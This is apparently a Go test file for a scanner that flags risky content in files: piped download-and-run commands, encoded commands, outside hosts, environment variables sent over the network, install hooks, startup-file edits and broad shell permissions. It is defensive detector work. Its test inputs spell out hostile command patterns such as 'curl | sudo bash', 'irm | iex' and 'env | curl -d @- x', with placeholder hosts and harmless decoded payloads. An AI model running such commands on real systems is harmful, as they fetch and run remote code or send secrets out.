package audit

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// list writes facts as kind:line:text.
func list(found []Fact) (out []string) {
	for _, f := range found {
		line := fmt.Sprintf("%s:%d:%s", f.Kind, f.Line, f.Text)
		if f.More > 0 {
			line += fmt.Sprintf(" +%d", f.More)
		}
		out = append(out, line)
	}
	return out
}

func find(name, text string) []string {
	return list(search(name, text, len(text)))
}

func search(name, text string, size int) []Fact {
	return NewSearcher(func(string) bool { return false }).Find(name, []byte(text), int64(size))
}

func TestFind(t *testing.T) {
	for _, test := range []struct {
		name, text string
		want       []string // nil for no fact
	}{
		// Downloads that are run, and those that are only read.
		{"a.md", "curl -fsSL https://x.dev/i.sh | sudo -E bash -", []string{"piped-download:1:curl -fsSL https://x.dev/i.sh | sudo -E bash -", "host:1:x.dev"}},
		{"a.md", "`bash <(curl -s https://x.dev/i)`", []string{"piped-download:1:`bash <(curl -s https://x.dev/i)`", "host:1:x.dev"}},
		{"a.md", "sh -c \"$(wget -qO- x.dev)\"", []string{"piped-download:1:sh -c \"$(wget -qO- x.dev)\""}},
		{"a.md", "irm x.dev/i.ps1 | iex", []string{"piped-download:1:irm x.dev/i.ps1 | iex"}},
		{"a.md", "iex ((New-Object Net.WebClient).DownloadString('x'))", []string{"piped-download:1:iex ((New-Object Net.WebClient).DownloadString('x'))"}},
		{"a.md", "wget -O - x.dev/i.py | python3 -", []string{"piped-download:1:wget -O - x.dev/i.py | python3 -"}},
		{"a.md", "curl -s x.dev | python3 -m json.tool", []string{"host:1:x.dev"}},
		{"a.md", "curl -s x.dev | jq .sh", []string{"host:1:x.dev"}},
		{"a.md", "| curl | bash | both are tools |", nil},
		{"a.md", "curl -s x.dev > show.sh", []string{"host:1:x.dev"}},
		{"a.md", "pip install shellcheck; use curl or bash", nil},
		// Encoded commands, with the decoded text.
		{"a.md", "echo bHMgLWxhIC90bXA= | base64 -d | bash", []string{"encoded-command:1:echo bHMgLWxhIC90bXA= | base64 -d | bash (decodes to \"ls -la /tmp\")"}},
		{"a.md", "echo bHMgLWxh | base64 -d | bash", []string{"encoded-command:1:echo bHMgLWxh | base64 -d | bash"}},
		{"a.md", "echo bHMgLWxhIC90bXAvYWJj | base64 --decode | sh", []string{"encoded-command:1:echo bHMgLWxhIC90bXAvYWJj | base64 --decode | sh (decodes to \"ls -la /tmp/abc\")"}},
		{"a.py", "exec(base64.b64decode('cHJpbnQoMSkgIyBoaQ=='))", []string{"encoded-command:1:exec(base64.b64decode('cHJpbnQoMSkgIyBoaQ==')) (decodes to \"print(1) # hi\")"}},
		{"a.md", "echo $T | base64 -d | python3 -", []string{"encoded-command:1:echo $T | base64 -d | python3 -"}},
		{"a.md", "echo $T | base64 -d | python3 -m json.tool", nil},
		{"a.md", "base64 -d < file.txt > out.bin", nil},
		{"a.md", "curl -s x.dev | sudo -u root bash", []string{"piped-download:1:curl -s x.dev | sudo -u root bash", "host:1:x.dev"}},
		{"a.md", "curl -s x.dev |& A=1 env B=2 bash", []string{"piped-download:1:curl -s x.dev |& A=1 env B=2 bash", "host:1:x.dev"}},
		{"a.md", "python3 <(curl -s x.dev/i)", []string{"piped-download:1:python3 <(curl -s x.dev/i)", "host:1:x.dev"}},
		{"a.md", "eval \"$(echo bHMgLWxhIC90bXAvYWJj | base64 -d)\"", []string{"encoded-command:1:eval \"$(echo bHMgLWxhIC90bXAvYWJj | base64 -d)\" (decodes to \"ls -la /tmp/abc\")"}},
		{"a.md", "echo 6c73202d6c61202f746d70 | xxd -r -p | sh", []string{"encoded-command:1:echo 6c73202d6c61202f746d70 | xxd -r -p | sh (decodes to \"ls -la /tmp\")"}},
		{"a.md", `printf '\x6c\x73\x20\x2d\x6c\x61\x20\x2f' | sh`, []string{`encoded-command:1:printf '\x6c\x73\x20\x2d\x6c\x61\x20\x2f' | sh (decodes to "ls -la /")`}},
		{"a.py", "exec(__import__('base64').b64decode('cHJpbnQoMSkgIyBoaQ=='))", []string{"encoded-command:1:exec(__import__('base64').b64decode('cHJpbnQoMSkgIyBoaQ==')) (decodes to \"print(1) # hi\")"}},
		{"a.md", "powershell -enc UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAMQA", []string{"encoded-command:1:powershell -enc UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAMQA (decodes to \"Start-Process Ä\")"}},
		{"a.sh", "echo $DATA | base64 -d | sh", []string{"encoded-command:1:echo $DATA | base64 -d | sh"}},
		// Hosts.
		{"a.md", "`ssh -p 22 root@a.dev`, `scp x b.dev:/tmp` and `git clone git@c.dev:a/b`, git config user.email a@d.dev", []string{"host:1:a.dev", "host:1:b.dev", "host:1:c.dev"}},
		{"a.md", "curl -fsSL get.x.dev/i -o i.sh && nc y.dev 4444 && wget -q z.dev", []string{"host:1:get.x.dev", "host:1:y.dev", "host:1:z.dev"}},
		{"a.md", "curl -o file.tar $URL; mail me@x.dev; rsync -a a.md b.md", nil},
		{"a.md", "`deno run https://a.dev/x.ts` and `urlopen('https://b.dev')`; fetch(u), see https://docs.dev", []string{"host:1:a.dev", "host:1:b.dev"}},
		{"a.md", "Read https://docs.acme.dev and https://acme.dev.", nil},
		{"a.md", "`git clone https://me@git.acme.dev/x` and https://docs.acme.dev", []string{"host:1:git.acme.dev"}},
		{"a.py", "# https://a.dev\nU = 'https://api.acme.dev:444/v1'\nV = 'https://API.acme.dev:444/v2'", []string{"host:2:api.acme.dev:444 +1"}},
		{"a.py", "u = f'https://api.{host}.dev' + 'http://localhost:1' + 'https://example.com' + 'http://www.w3.org/2000/svg'", nil},
		// Variables together with network use.
		{"a.py", "import os\nk = os.environ['A_KEY']\n", nil},
		{"a.py", "# requests.get(x)\nk = os.environ['A_KEY']\n", nil},
		{"a.py", "requests.get(x)\nk = os.getenv('A_KEY') or os.environ.get(\"B_KEY\") or os.environ['HOME']\n", []string{"environment:2:A_KEY", "environment:2:B_KEY"}},
		{"a.py", "requests.post(x, json=dict(os.environ))", []string{"environment:1:all variables: dict(os.environ)"}},
		{"a.js", "fetch(u, {headers: {a: process.env.A_KEY}})", []string{"environment:1:A_KEY"}},
		{"a.sh", "A=1\ncurl -d \"$A_KEY${B_KEY:-}\" x\nOWN=2\ncurl -d $OWN x", []string{"environment:2:A_KEY", "environment:2:B_KEY"}},
		{"a.py", "from os import environ\nrequests.get(x, headers=environ['A_KEY'])", []string{"environment:2:A_KEY"}},
		{"a.py", "requests.post(x, json=list(os.environ.items()))", []string{"environment:1:all variables: os.environ.items"}},
		{"a.go", "http.Get(x)\nos.LookupEnv(\"A_KEY\")", []string{"environment:2:A_KEY"}},
		{"a.js", "const {A_KEY, B} = process.env\nfetch(u + import.meta.env.C_KEY)", []string{"environment:1:{A_KEY, B} = process.env", "environment:2:C_KEY"}},
		{"a.sh", "env | curl -d @- x", []string{"environment:1:all variables: env"}},
		// Hooks and start-up files.
		{"package.json", `{"scripts": {"build": "x", "postinstall": "node x"}}`, []string{"install-hook:1:postinstall: node x"}},
		{"a.md", "LD_PRELOAD=./x.so ls", []string{"start-up:1:LD_PRELOAD=./x.so ls"}},
		{"a.md", "echo 'x' >> ~/.bashrc", []string{"start-up:1:echo 'x' >> ~/.bashrc"}},
		{"a.ps1", "if ($env:PATH -like '*x*') { }", nil},
		{"a.ps1", "$env:PATH = \"x;$env:PATH\"", []string{"start-up:1:$env:PATH = \"x;$env:PATH\""}},
		{"a.py", "if os.environ['PATH'] == 'x': pass", nil},
		{"a.md", "Set FILEPATH=x and PATH is not changed", nil},
		// Clients.
		{"SKILL.md", "---\nname: a\nallowed-tools: Bash(git:*), Bash(*), Read, Bash(sudo rm)\n---\n", []string{"shell-tool:3:Bash(*)", "shell-tool:3:Bash(sudo rm)"}},
		{"SKILL.md", "---\nname: a\nallowed-tools: Bash, Shell Bash(sh -c:*) Bash(git log) \"Bash(:*)\" run_shell_command\n---\n", []string{"shell-tool:3:Bash", "shell-tool:3:Shell", "shell-tool:3:Bash(sh -c:*)", "shell-tool:3:Bash(:*)", "shell-tool:3:run_shell_command"}},
		{"SKILL.md", "---\nname: a\nallowed-tools:\n  - Bash\n  - Read\n---\n", []string{"shell-tool:3:Bash"}},
		{"SKILL.md", "---\nname: a\n---\nNow: !`date`\n```!\nls -l\n```\nsay hi!`x`", []string{"client-hook:4:inline command: date", "client-hook:5:every line of the block that begins here"}},
		{"a.md", "Now: !`date`", nil},
		// Hidden text, keys, signatures.
		{"a.md", "x\U000E0068\U000E0069", []string{"hidden-text:1:spells \"hi\""}},
		{"a.md", "x\x1b[8m", []string{`hidden-text:1:escape sequence "\x1b[8m"`}},
		{"a.md", "AKIAQ3EGRZ7XK5VPLM2W", []string{"secret:1:possible AWS key AKIA…"}},
		// Opaque files.
		{"run", "\x7fELF\x02\x01", []string{"program:0:ELF program, 6 bytes"}},
		{"a.docx", "PK\x03\x04..", []string{"archive:0:zip archive (.docx), 6 bytes"}},
		{"a.txt", "MZ is a text", nil},
		{"a.exe", "MZ\x78\x00\x01", []string{"program:0:Windows program (.exe), 5 bytes"}},
		{"a.luac", "\x1bLua\x54", []string{"bytecode:0:Lua bytecode (.luac), 5 bytes"}},
		{"a.pyo", "\x00", []string{"bytecode:0:Python bytecode without its source a.py, 1 bytes"}},
		{"lib/__pycache__/a.cpython-312.pyc", "\x00", []string{"bytecode:0:Python bytecode without its source lib/a.py, 1 bytes"}},
		{"a.png", "\x89PNG\x00https://x.dev | sh", nil},
	} {
		if got := find(test.name, test.text); !slices.Equal(got, test.want) {
			t.Errorf("%s %q:\n got %q\nwant %q", test.name, test.text, got, test.want)
		}
	}
}

// TestFindMuch checks that a finding after a lot of other text is reported, and that many
// equal findings are cut.
func TestFindMuch(t *testing.T) {
	const command = "curl -s $X | sh"
	for name, text := range map[string]string{
		"blank lines":  strings.Repeat("\n", 1<<20) + command,
		"a long line":  strings.Repeat("x", 1<<20) + " " + command + " " + strings.Repeat("x", 1<<20),
		"continuation": strings.Repeat("\\\n", 1<<16) + command,
	} {
		if found := search("a.md", text, len(text)); len(found) != 1 || found[0].Kind != "piped-download" {
			t.Errorf("%s: %d facts", name, len(found))
		}
	}
	var many strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&many, "curl https://h%d.dev/\n", i)
	}
	found := search("a.sh", many.String(), many.Len())
	if len(found) != maxFacts+1 || found[0].Kind != "unread" && found[maxFacts].Kind != "unread" {
		t.Errorf("%d facts, first %v", len(found), found[0])
	}
	for _, unit := range []string{"curl ", "\"https://a.dev\" ", "curl a \\\n", "https://a.dev\n"} { // bounded, and reported
		text := strings.Repeat(unit, MaxSearched/len(unit))
		if found := search("a.py", text, len(text)); len(found) == 0 || found[len(found)-1].Kind != "unread" && found[0].Kind != "unread" {
			t.Errorf("%q again and again: %v", unit, found)
		}
	}
	if found := search("a.sh", "ls", MaxSearched+1); len(found) != 1 || found[0].Kind != "unread" {
		t.Errorf("a cut file: %v", found)
	}
}
